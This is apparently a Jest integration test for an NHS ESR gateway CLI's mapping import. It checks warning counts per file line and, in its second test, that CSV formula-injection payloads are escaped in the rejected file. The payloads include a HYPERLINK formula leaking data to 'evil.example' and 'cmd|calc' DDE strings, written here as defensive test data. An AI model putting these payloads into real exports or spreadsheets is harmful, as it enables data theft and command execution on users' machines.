/**
 * `esr-gateway mappings import` as an LSA uses it, against a running gateway (the whole app, the ESR
 * sandbox, the real PostgreSQL and Redis): rows saved in a state that gives no Search ESR are warned
 * about and counted apart, every row is named by its line in the file, and the rejected file never
 * hands a spreadsheet a formula.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { BOTH_KEY, PORTAL_KEY } from '../support/test-env';
import { CliGateway, runCli, startCliGateway } from './support/cli-harness';

const VPD = '979';
jest.setTimeout(180_000);

describe('esr-gateway mappings import', () => {
  let gw: CliGateway;
  let dir: string;
  let env: Record<string, string>;

  beforeAll(async () => {
    gw = await startCliGateway({ vpdCount: 1, roleAssignments: 200 });
    dir = await mkdtemp(join(tmpdir(), 'esr-cli-import-'));
    const synced = await runCli(['sync'], { ESR_GATEWAY_URL: gw.url, ESR_GATEWAY_KEY: BOTH_KEY });
    expect(synced.code).toBe(0);
    env = { ESR_GATEWAY_URL: gw.url, ESR_GATEWAY_KEY: PORTAL_KEY, ESR_GATEWAY_ACTING_USER: 'lsa@trust.nhs.uk' };
  });

  afterAll(async () => {
    await gw?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const numberOf = (key: 'established' | 'assignedWithin24h' | 'leaver' | 'withoutRole') => gw.sandbox.admin.fixture(key).employeeNumber;
  const readCsv = async (file: string) => {
    const text = await readFile(file, 'utf8');
    return { text, rows: parse<Record<string, string>>(text, { columns: true }) };
  };

  it('should warn about a leaver and a record without the role by file line, count them apart, and write them to FILE.attention.csv', async () => {
    const file = join(dir, 'warnings.csv');
    const lines = [
      'portalUserId,vpd,employeeNumber', // line 1
      `active.user@trust.nhs.uk,${VPD},${numberOf('established')}`, // 2: ACTIVE
      `pending.user@trust.nhs.uk,${VPD},${numberOf('assignedWithin24h')}`, // 3: PENDING_ACTIVATION
      `leaver.user@trust.nhs.uk,${VPD},${numberOf('leaver')}`, // 4: RECORD_INACTIVE
      `norole.user@trust.nhs.uk,${VPD},${numberOf('withoutRole')}`, // 5: NO_ROLE
      `second.user@trust.nhs.uk,${VPD},${numberOf('established')}`, // 6: line 2 has the record
    ];
    await writeFile(file, `${lines.join('\n')}\n`);

    const res = await runCli(['mappings', 'import', file], env);

    expect(res.code).toBe(1);
    expect(res.stdout).toMatch(/│ +5 │ +4 │ +0 │ +1 │/);
    expect(res.stdout).toContain('Created 4 (2 need attention: 1 NO_ROLE, 1 RECORD_INACTIVE).');
    expect(res.stdout).toMatch(
      new RegExp(
        `^Line 4: leaver\\.user@trust\\.nhs\\.uk -> VPD ${VPD} employee number ${numberOf('leaver')} saved as RECORD_INACTIVE: `,
        'm',
      ),
    );
    expect(res.stdout).toMatch(
      new RegExp(
        `^Line 5: norole\\.user@trust\\.nhs\\.uk -> VPD ${VPD} employee number ${numberOf('withoutRole')} saved as NO_ROLE: `,
        'm',
      ),
    );
    expect(res.stdout).not.toMatch(/^Line [236]:/m);
    expect(res.stdout).toContain(`All of them are in ${join(dir, 'warnings.attention.csv')}`);

    const attention = await readCsv(join(dir, 'warnings.attention.csv'));
    expect(attention.rows.map((r) => [r.line, r.portalUserId, r.state, r.verified])).toEqual([
      ['4', 'leaver.user@trust.nhs.uk', 'RECORD_INACTIVE', 'true'],
      ['5', 'norole.user@trust.nhs.uk', 'NO_ROLE', 'true'],
    ]);

    const rejected = await readCsv(join(dir, 'warnings.rejected.csv'));
    expect(rejected.rows).toEqual([
      expect.objectContaining({ portalUserId: 'second.user@trust.nhs.uk', line: '6', error: 'ESR_RECORD_MAPPED_TO_OTHER_USER' }),
    ]);
    expect(rejected.rows[0].reason).toContain('by an earlier row of this import (line 2)');
    expect(res.stdout + rejected.text).not.toMatch(/items\[|row \d+ of this import/);
  });

  it('should write formula payloads to FILE.rejected.csv as text a spreadsheet does not run, each with its file line', async () => {
    const file = join(dir, 'formulas.csv');
    const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '=1+2', '+cmd|calc', '@SUM(1+1)*cmd|calc', '-2+3'];
    const lines = [
      'portalUserId,vpd,employeeNumber',
      ...payloads.map((p) => `"${p.replace(/"/g, '""')}",${VPD},${numberOf('established')}`),
    ];
    lines.push(`ok.user@trust.nhs.uk,${VPD},"=1+2"`);
    await writeFile(file, `${lines.join('\r\n')}\r\n`);

    const res = await runCli(['mappings', 'import', file], env);

    expect(res.code).toBe(1);
    const { text, rows } = await readCsv(join(dir, 'formulas.rejected.csv'));
    expect(rows.map((r) => [r.line, r.error])).toEqual([2, 3, 4, 5, 6, 7].map((line) => [String(line), 'VALIDATION_FAILED']));
    expect(rows.slice(0, payloads.length).map((r) => r.portalUserId)).toEqual(payloads.map((p) => `'${p}`));
    expect(rows[payloads.length].employeeNumber).toBe("'=1+2");
    // No cell of the file starts with a formula character (quoted or not).
    const records: string[][] = parse(text);
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(text).toContain("'+cmd|calc");
    expect(text).toContain("'@SUM(1+1)*cmd|calc");
  });
});
